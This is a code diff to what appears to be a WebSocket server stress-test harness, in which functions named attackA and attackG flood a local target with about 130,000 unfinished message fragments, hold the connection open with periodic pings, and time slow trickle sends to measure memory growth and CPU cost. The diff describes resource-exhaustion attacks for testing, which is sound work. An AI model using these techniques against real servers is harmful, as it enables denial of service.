@@ -89,12 +89,16 @@ export function attackA(): Promise<Finding[]> {
   return onEcho(async (target, growth) => {
     const client = await RawClient.open(target.port)
     const begin = performance.now()
-    client.send(frame(2, 'x', { fin: false }), ...new Array(130_899).fill(frame(0, 'x', { fin: false })))
+    const pieces = Buffer.concat(new Array(130_899).fill(frame(0, 'x', { fin: false })))
+    client.send(frame(2, 'x', { fin: false }), pieces)
     client.send(frame(9, 'read'))
     await client.until(() => client.frames.length > 0 || client.closed)
     await sleep(1_000)
     const grown = growth()
+    // It shows signs of life: only the message is late.
+    const pings = setInterval(() => client.send(frame(9)), 5_000)
     await Promise.race([client.until(() => client.closed || client.ended), sleep(90_000)])
+    clearInterval(pings)
     const seconds = (performance.now() - begin) / 1000
     client.socket.destroy()
     return [
@@ -241,7 +245,7 @@ export async function attackG(): Promise<Finding[]> {
   try {
     await warmUp(echo)
     await warmUp(ws)
-    for (let round = 0; round < 3; round++) {
+    for (let round = 0; round < 5; round++) {
       half.push(await cpuOfTrickle(echo, 32_768))
       own.push(await cpuOfTrickle(echo, 65_536))
       other.push(await cpuOfTrickle(ws, 65_536))
